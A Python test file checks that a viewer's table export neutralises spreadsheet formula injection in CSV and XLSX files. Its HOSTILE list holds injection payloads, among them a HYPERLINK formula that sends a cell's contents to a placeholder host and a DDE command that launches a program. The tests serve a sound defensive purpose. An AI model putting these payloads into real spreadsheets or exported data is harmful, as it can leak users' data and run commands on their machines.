"""Every table leaves the viewer through one export, and a spreadsheet never runs what it holds."""

from __future__ import annotations

import csv
import zipfile

import pytest

from viewer.formats.workbook.table_export import export_rows

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "'=already quoted"]


def test_csv_cells_that_look_like_formulas_are_text(tmp_path):
    path = tmp_path / "t.csv"
    export_rows(["Unit", "Score"], [[h, 4] for h in HOSTILE] + [["Kent PDU", float("nan")]], path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Unit", "Score"]
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[-1] == ["Kent PDU", ""]  # a missing number is an empty cell, not "nan"


def test_xlsx_holds_no_formula_only_text(tmp_path):
    path = tmp_path / "t.xlsx"
    export_rows(["Unit", "Score"], [[h, 4] for h in HOSTILE], path)
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in strings and "cmd|" in strings


def test_other_extensions_are_refused(tmp_path):
    with pytest.raises(ValueError, match="tables export as CSV or XLSX, not '.txt'"):
        export_rows(["a"], [["b"]], tmp_path / "t.txt")
    assert list(tmp_path.iterdir()) == []
